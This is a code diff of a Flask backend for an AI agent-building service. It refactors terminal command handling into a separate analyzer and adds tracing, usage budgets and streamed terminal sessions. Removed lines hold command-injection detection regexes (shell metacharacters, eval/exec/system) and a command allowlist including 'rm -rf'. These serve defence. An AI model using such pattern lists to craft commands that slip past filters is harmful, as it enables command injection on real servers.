@@ -1,21 +1,45 @@
 import os
-from flask import Flask, render_template, request, jsonify, session
+from flask import Flask, render_template, request, jsonify, session, Response, stream_with_context, url_for, g
 from flask_limiter import Limiter
 from flask_limiter.util import get_remote_address
 from flask_talisman import Talisman
 from werkzeug.utils import secure_filename
-from kimi_code import generate_agents
+from kimi_code import generate_agents, save_agents, unused_project_name
 from dotenv import load_dotenv
 import github_utils
 import re
 import os
 import json
+import inspect
 import bleach
 import shutil
 import time
+import threading
+import contextlib
+from collections import Counter
 from models import db, Project, User, Package, Transaction
+import repository
+import database
+import migrations
 import memory
 import mentor as mentor_module
+import model_router
+import llm_gateway
+import llm_scheduler
+import idea_cache
+import terminal
+import command_analyzer
+import dep_cache
+import test_runner
+import debugger
+import stats
+import tts_cache
+import redaction
+import log_pipeline
+import tracing
+import metrics
+import usage
+import prompt
 from flask import send_file  # Used in export_zip function but not imported
 import subprocess  # Used in git routes but not imported at the top
 import shlex
@@ -30,15 +54,9 @@ import logging
 from collections import defaultdict, deque
 from typing import Dict, List
 
-# Configure logging for security events
-logging.basicConfig(
-    level=logging.INFO,
-    format='%(asctime)s - %(name)s - %(levelname)s - %(message)s',
-    handlers=[
-        logging.FileHandler('security.log'),
-        logging.StreamHandler()
-    ]
-)
+# Configure logging for security events: queued, JSON lines in
+# security.<pid>.log, redacted and rotated (see log_pipeline)
+log_pipeline.configure()
 
 security_logger = logging.getLogger('security')
 
@@ -47,6 +65,39 @@ load_dotenv()
 app = Flask(__name__)
 app.secret_key = os.urandom(24)
 
+@app.before_request
+def bind_request_trace():
+    # Propagate a per-request trace id to every LLM call and log record made
+    # while serving it, and queue those calls under this user in the rate-limit scheduler
+    trace_id = llm_gateway.bind_trace_id(request.headers.get("X-Request-Id"))
+    log_pipeline.bind_request(trace_id)
+    llm_gateway.bind_tenant(session.get("github_user") or request.remote_addr)
+    usage.bind(caller_id())
+    rule = request.url_rule.rule if request.url_rule else "<unmatched>"
+    g.trace_span = tracing.start_trace(trace_id, f"http {request.method} {rule}", route=rule, method=request.method)
+
+def caller_id():
+    """Who the request acts for: the GitHub user, else 'anonymous_<ip>' (LLM spend, terminal sessions)."""
+    return session.get("github_user") or f"anonymous_{request.remote_addr}"
+
+@app.after_request
+def defer_streamed_trace(response):
+    # Streamed responses (builds, test runs) are timed until their last chunk is sent
+    if "trace_span" in g and inspect.isgenerator(response.response):
+        response.response = tracing.end_after(response.response, g.pop("trace_span"))
+    return response
+
+@app.after_request
+def count_response(response):
+    rule = request.url_rule.rule if request.url_rule else "<unmatched>"
+    metrics.HTTP_REQUESTS.labels(request.method, rule, str(response.status_code)).inc()
+    return response
+
+@app.teardown_request
+def end_request_trace(exc):
+    if "trace_span" in g:
+        tracing.end_trace(g.pop("trace_span"), exc)
+
 # --- Security Helpers ---
 def get_secure_project_path(project_name):
     if not project_name: raise ValueError("Project Name required")
@@ -62,44 +113,10 @@ def get_secure_project_path(project_name):
 class CommandSanitizer:
     """Advanced command input sanitization"""
     
-    # Dangerous shell metacharacters and patterns
-    DANGEROUS_CHARS = r'[;&|`$()<>\\n\\r]'
-    DANGEROUS_PATTERNS = [
-        r'&&', r'\|\|', r';', r'\|', r'`', r'\$\(',
-        r'\${', r'<', r'>', r'\n', r'\r', r'\\x',
-        r'eval\s*\(', r'exec\s*\(', r'system\s*\('
-    ]
-    
     @staticmethod
     def sanitize_input(user_input: str) -> Optional[str]:
-        """Comprehensive input sanitization"""
-        if not user_input or not isinstance(user_input, str):
-            return None
-            
-        # Remove null bytes
-        user_input = user_input.replace('\x00', '')
-        
-        # Check for dangerous characters
-        if re.search(CommandSanitizer.DANGEROUS_CHARS, user_input):
-            return None
-            
-        # Check for dangerous patterns
-        for pattern in CommandSanitizer.DANGEROUS_PATTERNS:
-            if re.search(pattern, user_input, re.IGNORECASE):
-                return None
-                
-        # Additional checks for encoded payloads
-        if '%' in user_input:
-            try:
-                # Check for URL-encoded dangerous characters
-                import urllib.parse
-                decoded = urllib.parse.unquote(user_input)
-                if re.search(CommandSanitizer.DANGEROUS_CHARS, decoded):
-                    return None
-            except:
-                return None
-                
-        return user_input.strip()
+        """Comprehensive input sanitization (single compiled pass, see command_analyzer)"""
+        return command_analyzer.analyzer.sanitize(user_input)
 
     @staticmethod
     def validate_filename(filename: str) -> Optional[str]:
@@ -179,67 +196,6 @@ class CommandWhitelist:
                 
         return True
 
-class CommandInjectionDetector:
-    """Real-time command injection detection"""
-    
-    def __init__(self):
-        self.suspicious_patterns = [
-            r'&&', r'\|\|', r';.*&', r'\|.*\|', r'`.*`',
-            r'\$\(.*\)', r'\${.*}', r'eval\s*\(', r'exec\s*\('
-        ]
-        self.request_history = defaultdict(lambda: deque(maxlen=100))
-        self.blocked_commands = []
-        
-    def analyze_command(self, user_id: str, command: str, ip_address: str) -> Dict[str, any]:
-        """Analyze command for injection attempts"""
-        detection_result = {
-            "allowed": True,
-            "reason": "",
-            "risk_score": 0,
-            "patterns_found": []
-        }
-        
-        # Check for suspicious patterns
-        for pattern in self.suspicious_patterns:
-            if re.search(pattern, command, re.IGNORECASE):
-                detection_result["patterns_found"].append(pattern)
-                detection_result["risk_score"] += 25
-                
-        # Rate limiting check
-        current_time = time.time()
-        user_requests = self.request_history[user_id]
-        
-        # Remove old requests (older than 1 minute)
-        while user_requests and current_time - user_requests[0] > 60:
-            user_requests.popleft()
-            
-        # Check for rapid requests (potential automated attack)
-        if len(user_requests) > 20:  # More than 20 commands in 1 minute
-            detection_result["risk_score"] += 50
-            
-        user_requests.append(current_time)
-        
-        # Check for command chaining attempts
-        if len(command.split()) > 10:  # Unusually long command
-            detection_result["risk_score"] += 15
-            
-        # Make decision based on risk score
-        if detection_result["risk_score"] >= 50:
-            detection_result["allowed"] = False
-            detection_result["reason"] = "High risk score detected"
-            self.blocked_commands.append({
-                "user_id": user_id,
-                "command": command,
-                "ip_address": ip_address,
-                "timestamp": current_time,
-                "risk_score": detection_result["risk_score"]
-            })
-            
-        return detection_result
-
-# Global detector instance
-injection_detector = CommandInjectionDetector()
-
 # Add to your security headers
 @app.after_request
 def add_security_headers(response):
@@ -250,18 +206,9 @@ def add_security_headers(response):
     response.headers['Referrer-Policy'] = 'strict-origin-when-cross-origin'
     return response
 
-# Implement proper logging
-import logging
-logging.basicConfig(
-    level=logging.INFO,
-    format='%(asctime)s - %(name)s - %(levelname)s - %(message)s',
-    handlers=[
-        logging.FileHandler('security.log'),
-        logging.StreamHandler()
-    ]
-)
-
+# Logging is configured once at the top of this module (log_pipeline)
 security_logger = logging.getLogger('security')
+logger = logging.getLogger(__name__)
 
 # Test cases for command injection
 INJECTION_TEST_CASES = [
@@ -343,6 +290,7 @@ def git_commit():
 limiter = Limiter(
     get_remote_address,
     app=app,
+    enabled=os.getenv("RATELIMIT_ENABLED", "1") == "1",  # 0 only for load tests (benchmarks/)
     default_limits=["200 per day", "50 per hour"],
     storage_uri="memory://"
 )
@@ -362,13 +310,21 @@ talisman = Talisman(app, content_security_policy=csp, force_https=False) # force
 # Database Configuration
 # ------------------------------------------------------------------
 # Use a default sqlite for easy dev if DATABASE_URL not set, but prefer Postgres
-app.config['SQLALCHEMY_DATABASE_URI'] = os.getenv("DATABASE_URL", "sqlite:///local_dev.db")
+# Pool sizing, SQLite WAL and the optional read replica live in database.py
+database.configure(app, os.getenv("DATABASE_URL", "sqlite:///local_dev.db"))
 app.config['SQLALCHEMY_TRACK_MODIFICATIONS'] = False
 db.init_app(app)
 
 # Create tables on startup (simplistic approach for this scale)
 with app.app_context():
     db.create_all()
+    if os.getenv("MIGRATE_ON_STARTUP", "1") == "1":
+        migrations.upgrade()
+    stats.ensure_initialized()
+migrations.register_commands(app)
+usage.recorder.init_app(app)  # Batched llm_usage writes
+
+DASHBOARD_PAGE_SIZE = 24
 
 
 @app.route("/")
@@ -380,11 +336,9 @@ def index():
         # Load project from DB to inject into template (or let JS fetch it)
         # For simplicity, we'll let the frontend fetch it via an API or inject JSON here.
         # Injection is faster for "Resume".
-        user_identifier = session.get("github_user", "anonymous")
-        # In multi-user env, filter by user. For now, find by name.
-        proj = Project.query.filter_by(project_name=project_name).first()
+        proj = repository.get_project(project_name, caller_id())
         if proj:
-            existing_data = proj.agents_data
+            existing_data = proj.document()
             # Ensure project name matches exactly in data
             if existing_data:
                 existing_data["project_name"] = proj.project_name
@@ -392,27 +346,28 @@ def index():
     return render_template("index.html", initial_data=existing_data)
 
 @app.route("/dashboard")
+@database.read_only
 def dashboard():
     # List projects
-    # If using authentication, filter by user
-    user_identifier = session.get("github_user")
-    
-    if user_identifier:
-        projects = Project.query.filter_by(user_identifier=user_identifier).all()
-    else:
-        # Fallback for anonymous trial or local dev
-        projects = Project.query.all()
+    # Newest first, one page at a time via a keyset cursor (id of the last card
+    # shown) and without loading the agents_data blob. Only the caller's own
+    # projects (anonymous callers: per IP), the ones they can open.
+    projects, next_cursor = repository.list_projects(
+        caller_id(), cursor=request.args.get("cursor", type=int), limit=DASHBOARD_PAGE_SIZE
+    )
         
-    return render_template("dashboard.html", projects=projects)
+    return render_template("dashboard.html", projects=projects, next_cursor=next_cursor)
 
 @app.route("/api/project/agents", methods=["GET", "POST"])
 def project_agents():
     project_name = request.args.get("project_name")
     
+    user_identifier = caller_id()  # Reads and writes: own projects only
+    
     if request.method == "GET":
-        proj = Project.query.filter_by(project_name=project_name).first()
-        if proj and proj.agents_data:
-            return jsonify(proj.agents_data)
+        proj = repository.get_project(project_name, user_identifier)
+        if proj and proj.agents_data is not None:
+            return jsonify(proj.document())
         return jsonify({"error": "Project not found"}), 404
         
     if request.method == "POST":
@@ -420,14 +375,45 @@ def project_agents():
         project_name = data.get("project_name")
         agents_data = data.get("agents_data") # The full JSON struct
         
-        proj = Project.query.filter_by(project_name=project_name).first()
+        proj = repository.get_project(project_name, user_identifier)
         if proj:
-            proj.agents_data = agents_data
+            proj.set_agents(agents_data)
             db.session.commit()
-            mentor_module.mentor.log_event(f"User updated Agent Personas for '{project_name}'")
+            log_mentor(f"User updated Agent Personas for '{project_name}'", project_name)
             return jsonify({"status": "updated"})
         return jsonify({"error": "Project not found"}), 404
 
+@app.route("/api/project/agents/<int:position>", methods=["GET", "PATCH"])
+def project_agent(position):
+    """One agent of a project, edited with a JSON merge patch (null removes a field)."""
+    user_identifier = caller_id()  # Reads and writes: own projects only
+    data = (request.get_json(silent=True) or {}) if request.method == "PATCH" else {}
+    project_name = request.args.get("project_name") or data.get("project_name")
+    
+    proj = repository.get_project(project_name, user_identifier)
+    if not proj:
+        return jsonify({"error": "Project not found"}), 404
+    
+    if request.method == "GET":
+        if "agents" in (proj.agents_data or {}):
+            agents = proj.agents_data["agents"]
+            agent_data = agents[position] if position < len(agents) else None
+        else:
+            agent = repository.get_agent(proj, position)
+            agent_data = agent.data if agent else None
+        if agent_data is None:
+            return jsonify({"error": "Agent not found"}), 404
+        return jsonify(agent_data)
+    
+    patch = data.get("agent")
+    if not isinstance(patch, dict) or not patch:
+        return jsonify({"error": "Missing agent fields"}), 400
+    agent = repository.update_agent(proj, position, patch)
+    if agent is None:
+        return jsonify({"error": "Agent not found"}), 404
+    log_mentor(f"User updated the {agent.role or 'agent'} persona for '{proj.project_name}'", proj.project_name)
+    return jsonify({"status": "updated", "agent": agent.data})
+
 @app.route("/api/deploy/prepare_vercel", methods=["POST"])
 def deploy_vercel():
     data = request.get_json()
@@ -454,7 +440,7 @@ def deploy_vercel():
         with open(os.path.join(project_root, "vercel.json"), "w") as f:
             json.dump(config, f, indent=2)
             
-        mentor_module.mentor.log_event(f"Generated Vercel configuration for '{project_name}'")
+        log_mentor(f"Generated Vercel configuration for '{project_name}'", project_name)
         
         return jsonify({
             "status": "ready",
@@ -495,7 +481,7 @@ console.log("Supabase Client Initialized");
         with open(os.path.join(src_dir, "supabase.js"), "w") as f:
             f.write(content.strip())
             
-        mentor_module.mentor.log_event(f"Configured Supabase for '{project_name}'")
+        log_mentor(f"Configured Supabase for '{project_name}'", project_name)
         
         return jsonify({
             "status": "configured", 
@@ -527,7 +513,7 @@ def export_zip():
         base_name = os.path.join(archive_dir, secure_filename(project_name))
         zip_path = shutil.make_archive(base_name, 'zip', project_root)
         
-        mentor_module.mentor.log_event(f"User downloaded source code for '{project_name}'")
+        log_mentor(f"User downloaded source code for '{project_name}'", project_name)
         
         return send_file(zip_path, as_attachment=True)
         
@@ -584,11 +570,7 @@ def callback():
     session['github_user'] = username
     
     # Sync User to DB
-    user = User.query.get(username)
-    if not user:
-        user = User(username=username)
-        db.session.add(user)
-        db.session.commit()
+    repository.get_or_create_user(username)
     
     return redirect(url_for('index'))
 
@@ -669,25 +651,38 @@ def generate():
     # Input Sanitization
     # ------------------------------------------------------------------
     idea = bleach.clean(raw_idea)
+    reuse = data.get("reuse", True)
     
     try:
         # 1. Generate Agents & Create Local Project
-        result = generate_agents(idea)
+        # Near-duplicate ideas reuse one of the caller's own past teams instead of
+        # a fresh generation (anonymous callers: their own, per IP, like budgets)
+        owner = caller_id()
+        result = None
+        if reuse:
+            match = idea_cache.index.lookup(idea, owner)
+            source = repository.get_project_by_id(match[0]) if match else None
+            if source and source.user_identifier == owner and source.agents_data is not None:
+                cached = {k: v for k, v in source.document().items() if k not in ("local_path", "project_name", "cache")}
+                # A new project (name and folder); the source project is left alone
+                project = dict(cached.get("project") or {})
+                project["name"] = unused_project_name(project.get("name") or "Untitled Project")
+                cached["project"] = project
+                result = save_agents(idea, cached)
+                result["cache"] = {"hit": True, "similarity": round(match[1], 2)}
+
+        if result is None:
+            result = generate_agents(idea)
+            result["cache"] = {"hit": False}
         
         # ------------------------------------------------------------------
         # Save to Database
         # ------------------------------------------------------------------
         project_name = result.get("project_name", "Untitled")
-        user_identifier = session.get("github_user", "anonymous")
         
-        new_project = Project(
-            user_identifier=user_identifier,
-            project_name=project_name,
-            idea_prompt=idea,
-            agents_data=result
-        )
-        db.session.add(new_project)
-        db.session.commit()
+        # Regenerating a name you already have refreshes that project
+        new_project = repository.upsert_project(owner, project_name, idea, result)
+        idea_cache.index.add(new_project.id, idea, owner)
         
         
         # 2. Sync to GitHub if token exists
@@ -726,14 +721,59 @@ def build_project_route():
     if not agents_data:
         return jsonify({"error": "No agents data provided"}), 400
 
+    # Over-budget builds are rejected, or downgraded before they start
+    budget = usage.check_build(caller_id(), len(agents_data.get("agents") or []))
+    if not budget.allowed:
+        return jsonify({"error": budget.reason, "budget": usage.user_summary(caller_id())}), 402
+
     token = session.get("github_token")
+    stats.record_build()
+    project_name = agents_data.get("project", {}).get("name", "Untitled")
+    log_pipeline.bind_job(log_pipeline.new_job_id("build"))
+    logger.info(f"Build started for '{project_name}'", extra={"project": project_name})
+    log_mentor(f"Build started for '{project_name}'", project_name)
 
     from flask import Response, stream_with_context
     return Response(
-        stream_with_context(builder.build_project_stream(agents_data, github_token=token)),
+        stream_with_context(mentor_tap(
+            redaction.redact_stream(builder.build_project_stream(
+                agents_data, github_token=token, user_id=caller_id(), budget=budget)), project_name)),
         mimetype='application/x-ndjson'
     )
 
+
+def log_mentor(text, project_name, **kwargs):
+    """Mentor event for the current user's session on `project_name`."""
+    mentor_module.mentor.log_event(text, project_name, user_id=caller_id(), **kwargs)
+
+
+def mentor_tap(lines, project_name):
+    """Pass an NDJSON stream through, logging notable events to the mentor."""
+    user_id = caller_id()
+
+    def log(text, kind, subject=None):
+        mentor_module.mentor.log_event(text, project_name, user_id=user_id, kind=kind, subject=subject)
+
+    for line in lines:
+        yield line
+        try:
+            event = json.loads(line)
+        except ValueError:
+            continue
+        status = event.get("status")
+        if status in ("error", "fatal", "warning"):
+            who = f"{event['agent']}: " if event.get("agent") else ""
+            log(f"Build {status}: {who}{event.get('message')}", mentor_module.ERROR, event.get("agent"))
+        elif status == "complete":
+            log("Build complete", mentor_module.BUILD_COMPLETE)
+        elif status == "test" and event.get("outcome") in ("failed", "error"):
+            log(f"Test failed: {event.get('name')} ({(event.get('message') or '')[:200]})",
+                mentor_module.TEST_FAILED, event.get("id"))
+        elif status == "done":
+            passed = event.get("exit_code") == 0
+            log(f"Tests {'passed' if passed else 'failed'}: {event.get('passed', 0)} passed, {event.get('failed', 0)} failed",
+                mentor_module.TESTS_PASSED if passed else mentor_module.TESTS_FAILED)
+
 import memory
 
 @app.route("/api/revert", methods=["POST"])
@@ -778,9 +818,9 @@ def save_file():
     # Log to Mentor
     import mentor as mentor_module
     if success:
-        mentor_module.mentor.log_event(f"User manually saved file: {file_path}")
+        log_mentor(f"User manually saved file: {file_path}", project_name, kind=mentor_module.SAVE, subject=file_path)
     else:
-        mentor_module.mentor.log_event(f"User failed to save {file_path}: {msg}")
+        log_mentor(f"User failed to save {file_path}: {msg}", project_name, kind=mentor_module.ERROR, subject=file_path)
 
     if success:
         return jsonify({"status": "success", "message": msg})
@@ -797,7 +837,7 @@ def terminal_run():
     project_name = data.get("project_name", "")
     
     # Get user information for monitoring
-    user_id = session.get("github_user", "anonymous")
+    user_id = caller_id()  # Anonymous callers are told apart by IP
     ip_address = request.remote_addr
     
     # Input validation
@@ -807,11 +847,6 @@ def terminal_run():
     if not project_name or not isinstance(project_name, str):
         return jsonify({"output": "Error: Invalid project name", "error": "Invalid input"}), 400
     
-    # Sanitize input
-    sanitized_command = CommandSanitizer.sanitize_input(command)
-    if not sanitized_command:
-        return jsonify({"output": "Error: Invalid command syntax", "error": "Sanitization failed"}), 400
-    
     # Path validation
     try:
         project_root = get_secure_project_path(project_name)
@@ -821,123 +856,155 @@ def terminal_run():
     if not os.path.exists(project_root):
         return jsonify({"output": f"Error: Project path not found: {project_root}", "error": "Project not found"}), 404
     
-    # Parse command safely using shlex
-    try:
-        command_parts = shlex.split(sanitized_command.strip())
-    except ValueError as e:
-        return jsonify({"output": f"Error: Invalid command syntax: {str(e)}", "error": "Parse error"}), 400
-    
-    # Validate against whitelist
-    if not validate_command_parts(command_parts):
-        return jsonify({"output": "Error: Command not allowed", "error": "Unauthorized command"}), 403
-    
-    # Additional safety: Check for dangerous patterns
-    dangerous_patterns = ['&&', '||', ';', '|', '`', '$', '(', ')', '<', '>', '\n', '\r']
-    for part in command_parts:
-        for pattern in dangerous_patterns:
-            if pattern in part:
-                return jsonify({"output": f"Error: Dangerous character detected: {pattern}", "error": "Security violation"}), 403
-    
-    # Execute securely with shell=False
+    # Sanitize, tokenize, whitelist and risk-score in one pass
+    verdict = command_analyzer.analyzer.analyze(command, user_id, ip_address)
+    if not verdict.allowed:
+        metrics.TERMINAL_COMMANDS.labels(verdict.stage).inc()
+        if verdict.stage == "sanitize":
+            security_logger.warning(
+                f"Blocked command injection attempt from user {user_id} at {ip_address}: {command!r} {verdict.patterns_found}",
+                extra={"user_id": user_id, "ip": ip_address, "risk_score": verdict.risk_score})
+            return jsonify({"output": "Error: Invalid command syntax", "error": "Sanitization failed", "risk_score": verdict.risk_score}), 400
+        if verdict.stage == "parse":
+            return jsonify({"output": f"Error: {verdict.reason}", "error": "Parse error"}), 400
+        if verdict.stage == "whitelist":
+            return jsonify({"output": "Error: Command not allowed", "error": "Unauthorized command"}), 403
+        security_logger.warning(f"Blocked high-risk command from user {user_id} at {ip_address}: {command!r}",
+                                extra={"user_id": user_id, "ip": ip_address, "risk_score": verdict.risk_score})
+        return jsonify({
+            "output": f"Error: Command blocked - {verdict.reason}",
+            "error": "Security violation",
+            "risk_score": verdict.risk_score
+        }), 403
+    
+    sanitized_command = verdict.sanitized
+    command_parts = verdict.command_parts
+    
+    # Clone a warm .venv/node_modules for this manifest if one exists, and
+    # point pip/npm at the shared caches. Runs in the session's thread, before
+    # the command, since creating a venv or copying a template takes a while.
+    def setup():
+        try:
+            dep_cache.pool.prepare(project_root)
+        except Exception as e:
+            security_logger.warning(f"Dependency template clone failed for {project_name}: {e}")
+        return dep_cache.install_env(project_root)
+
+    # Launch as a background session (shell=False inside); output is streamed
+    # from /api/terminal/stream/<session_id> instead of blocking this worker
     try:
-        result = subprocess.run(
-            command_parts,
-            shell=False,  # CRITICAL: Never use shell=True
-            cwd=project_root,
-            capture_output=True,
-            text=True,
-            timeout=30,
-            check=False
+        term_session = terminal.manager.start(
+            user_id, project_name, command_parts, cwd=project_root, setup=setup
         )
-        
-        output = result.stdout if result.stdout else result.stderr
-        if not output:
-            output = f"Command completed with exit code: {result.returncode}"
-            
-        return jsonify({"output": output, "exit_code": result.returncode})
-        
-    except subprocess.TimeoutExpired:
-        return jsonify({"output": "Error: Command timed out after 30 seconds", "error": "Timeout"}), 408
-    except FileNotFoundError:
-        return jsonify({"output": f"Error: Command not found: {command_parts[0]}", "error": "Command not found"}), 404
+    except terminal.TerminalLimitError as e:
+        metrics.TERMINAL_COMMANDS.labels("limit").inc()
+        return jsonify({"output": f"Error: {str(e)}", "error": "Too many running commands"}), 429
     except Exception as e:
         return jsonify({"output": f"Execution Error: {str(e)}", "error": "Execution failed"}), 500
     
-"""Secure terminal command execution"""
-data = request.get_json()
-command = data.get("command", "")
-project_name = data.get("project_name", "")
+    metrics.TERMINAL_COMMANDS.labels("started").inc()
+    log_pipeline.bind_job(term_session.id)
+    security_logger.info(f"User {user_id} started command: {sanitized_command[:50]}...",
+                         extra={"user_id": user_id, "project": project_name, "sample": "terminal.command"})
+    
+    return jsonify({
+        "session_id": term_session.id,
+        "stream_url": url_for("terminal_stream", session_id=term_session.id),
+        "status": term_session.status
+    }), 202
+
+
+# Each Server-Sent Events stream holds a request thread: it ends after
+# SSE_MAX_SECONDS and the browser's EventSource reconnects SSE_RETRY_MS later,
+# resuming from Last-Event-ID. Past SSE_MAX_STREAMS open streams in this process
+# (or SSE_MAX_STREAMS_PER_USER for one caller) a stream only flushes what is
+# ready and ends, so extra tabs poll every SSE_RETRY_MS instead of pinning threads.
+SSE_MAX_SECONDS = int(os.getenv("SSE_MAX_SECONDS", "300"))
+SSE_MAX_STREAMS = int(os.getenv("SSE_MAX_STREAMS", "16"))
+SSE_MAX_STREAMS_PER_USER = int(os.getenv("SSE_MAX_STREAMS_PER_USER", "2"))
+SSE_RETRY_MS = 3000
+_sse_lock = threading.Lock()
+_sse_open = Counter()  # caller -> open long-lived streams
+
+
+@contextlib.contextmanager
+def sse_window(user_id):
+    """Seconds a stream may stay open: SSE_MAX_SECONDS within the caps, else 0."""
+    with _sse_lock:
+        held = (_sse_open[user_id] < SSE_MAX_STREAMS_PER_USER
+                and sum(_sse_open.values()) < SSE_MAX_STREAMS)
+        if held:
+            _sse_open[user_id] += 1
+    try:
+        yield SSE_MAX_SECONDS if held else 0
+    finally:
+        if held:
+            with _sse_lock:
+                _sse_open[user_id] -= 1
+                if not _sse_open[user_id]:
+                    del _sse_open[user_id]
 
-# Get user information for monitoring
-user_id = session.get("user_id", "anonymous")
-ip_address = request.remote_addr
 
-# Input validation
-if not command or not project_name:
-    return jsonify({"output": "Error: Missing command or project", "error": "Invalid input"}), 400
+def last_event_id():
+    """The id EventSource resumes from (Last-Event-ID, or ?after=), None if absent or malformed."""
+    try:
+        return max(0, int(request.headers.get("Last-Event-ID") or request.args.get("after")))
+    except (TypeError, ValueError):
+        return None
+
+
+@app.route("/api/terminal/stream/<session_id>", methods=["GET"])
+@limiter.exempt
+def terminal_stream(session_id):
+    """Server-Sent Events stream of a terminal session's output."""
+    user_id = caller_id()
+    term_session = terminal.manager.get(session_id, user_id)
+    if not term_session:
+        return jsonify({"error": "Session not found"}), 404
+    
+    # EventSource sends Last-Event-ID on reconnect so no output is replayed twice
+    after = last_event_id() or 0
+    
+    def generate(after):
+        with sse_window(user_id) as seconds:
+            deadline = time.monotonic() + seconds
+            yield f"retry: {SSE_RETRY_MS}\nid: {after}\n\n"
+            while True:
+                lines, truncated, finished = term_session.read(
+                    after, timeout=min(15, max(0, deadline - time.monotonic())))
+                if truncated:
+                    yield f"event: truncated\ndata: {{}}\n\n"
+                for seq, stream, text in lines:
+                    yield f"id: {seq}\ndata: {json.dumps({'stream': stream, 'text': text})}\n\n"
+                    after = seq
+                if finished:
+                    yield f"event: exit\ndata: {json.dumps(term_session.to_dict())}\n\n"
+                    return
+                if time.monotonic() >= deadline:
+                    return
+                if not lines:
+                    yield ": keep-alive\n\n"
+    
+    return Response(
+        stream_with_context(generate(after)),
+        mimetype="text/event-stream",
+        headers={"Cache-Control": "no-cache", "X-Accel-Buffering": "no"}
+    )
 
-# Sanitize input
-sanitized_command = CommandSanitizer.sanitize_input(command)
-if not sanitized_command:
-    return jsonify({"output": "Error: Invalid command syntax", "error": "Sanitization failed"}), 400
 
-# Run injection detection
-detection_result = injection_detector.analyze_command(user_id, sanitized_command, ip_address)
-if not detection_result["allowed"]:
-    logging.warning(f"Blocked command injection attempt from user {user_id} at {ip_address}: {sanitized_command}")
-    return jsonify({
-        "output": f"Error: Command blocked - {detection_result['reason']}",
-        "error": "Security violation",
-        "risk_score": detection_result["risk_score"]
-    }), 403
-
-# Execute secure command
-result = secure_terminal_run(sanitized_command, project_name)
-
-# Log successful execution
-logging.info(f"User {user_id} executed command: {sanitized_command[:50]}...")
-
-return jsonify(result)
-
-# Define allowed commands and their arguments
-ALLOWED_COMMANDS = {
-    'npm': ['install', 'test', 'run', 'build', 'start'],
-    'python': ['-m', 'pip', 'install', '-m', 'http.server', '-m', 'pytest'],
-    'pip': ['install', 'list', 'show'],
-    'ls': ['-la', '-l', '-a'],
-    'cat': [],
-    'wc': ['-l', '-w', '-c'],
-    'mkdir': [],
-    'touch': [],
-    'rm': ['-rf', '-r', '-f'],
-    'cp': ['-r'],
-    'mv': [],
-    'git': ['status', 'add', 'commit', 'push', 'pull', 'clone', 'init']
-}
+@app.route("/api/terminal/cancel", methods=["POST"])
+def terminal_cancel():
+    data = request.get_json()
+    user_id = caller_id()
+    term_session = terminal.manager.get(data.get("session_id"), user_id)
+    if not term_session:
+        return jsonify({"error": "Session not found"}), 404
+    cancelled = term_session.cancel()
+    return jsonify({"status": "cancelled" if cancelled else term_session.status})
 
 def validate_command_parts(command_parts: List[str]) -> bool:
     """Validate command and arguments against whitelist"""
-    if not command_parts:
-        return False
-    
-    base_command = command_parts[0]
-    
-    # Check if command is allowed
-    if base_command not in ALLOWED_COMMANDS:
-        return False
-    
-    # Check arguments if any are provided
-    if len(command_parts) > 1:
-        allowed_args = ALLOWED_COMMANDS[base_command]
-        for arg in command_parts[1:]:
-            # Skip file/directory names (they don't start with -)
-            if not arg.startswith('-'):
-                continue
-            # Check if argument is allowed
-            if arg not in allowed_args:
-                return False
-    
-    return True
+    return command_analyzer.validate_parts(command_parts)
 
 def secure_terminal_run(command: str, project_name: str) -> Dict[str, Any]:
     """
@@ -959,22 +1026,11 @@ def secure_terminal_run(command: str, project_name: str) -> Dict[str, Any]:
     if not os.path.exists(project_root):
         return {"output": f"Error: Project path not found: {project_root}", "error": "Project not found"}
     
-    # Parse command safely using shlex
-    try:
-        command_parts = shlex.split(command.strip())
-    except ValueError as e:
-        return {"output": f"Error: Invalid command syntax: {str(e)}", "error": "Parse error"}
-    
-    # Validate against whitelist
-    if not validate_command_parts(command_parts):
-        return {"output": "Error: Command not allowed", "error": "Unauthorized command"}
-    
-    # Additional safety: Check for dangerous patterns
-    dangerous_patterns = ['&&', '||', ';', '|', '`', '$', '(', ')', '<', '>', '\n', '\r']
-    for part in command_parts:
-        for pattern in dangerous_patterns:
-            if pattern in part:
-                return {"output": f"Error: Dangerous character detected: {pattern}", "error": "Security violation"}
+    # Sanitize, tokenize and whitelist in one pass
+    verdict = command_analyzer.analyzer.analyze(command)
+    if not verdict.allowed:
+        return {"output": f"Error: {verdict.reason}", "error": "Security violation", "risk_score": verdict.risk_score}
+    command_parts = verdict.command_parts
     
     # Execute safely with shell=False
     try:
@@ -982,6 +1038,7 @@ def secure_terminal_run(command: str, project_name: str) -> Dict[str, Any]:
             command_parts,
             shell=False,  # CRITICAL: Never use shell=True
             cwd=project_root,
+            env=dep_cache.install_env(project_root),
             capture_output=True,
             text=True,
             timeout=30,
@@ -1004,27 +1061,28 @@ def secure_terminal_run(command: str, project_name: str) -> Dict[str, Any]:
 
 @app.route("/api/voices", methods=["GET"])
 def get_voices():
-    # Proxy to ElevenLabs to get voices
-    api_key = os.environ.get("ELEVENLABS_API_KEY") 
-    # If not in env, check session or header? For now rely on Env or user-provided in header?
-    # Better: Frontend sends key, or we hide it. Plan said "Input (if user provided) or use System Key"
-    # Let's support an optional header 'X-ElevenLabs-Key'
-    
-    key = request.headers.get("X-ElevenLabs-Key") or api_key
+    # Proxy to ElevenLabs, optionally with the user's own 'X-ElevenLabs-Key'
+    key = request.headers.get("X-ElevenLabs-Key") or os.environ.get("ELEVENLABS_API_KEY")
     
     if not key:
         return jsonify({"voices": []}) # Return empty if no key
         
     try:
-        url = "https://api.elevenlabs.io/v1/voices"
-        headers = {"xi-api-key": key}
-        response = requests.get(url, headers=headers, timeout=10)
-        if response.ok:
-            return jsonify(response.json())
-        return jsonify({"error": "Failed to fetch voices"}), response.status_code
+        # Served from the per-key catalog; refreshed in the background when stale
+        catalog = tts_cache.voices.get(key)
+    except tts_cache.TTSError as e:
+        return jsonify({"error": "Failed to fetch voices"}), e.status_code
     except Exception as e:
         return jsonify({"error": str(e)}), 500
 
+    etag = f'"{catalog["version"]}"'
+    headers = {"ETag": etag, "Cache-Control": "private, no-cache", "Vary": "X-ElevenLabs-Key"}
+    if etag in request.headers.get("If-None-Match", ""):
+        return Response(status=304, headers=headers)
+    response = jsonify({"voices": catalog["voices"]})
+    response.headers.update(headers)
+    return response
+
 @app.route("/settings/search", methods=["POST"])
 def save_search_settings():
     data = request.get_json()
@@ -1040,7 +1098,7 @@ def save_search_settings():
 def tts():
     data = request.get_json()
     text = data.get("text")
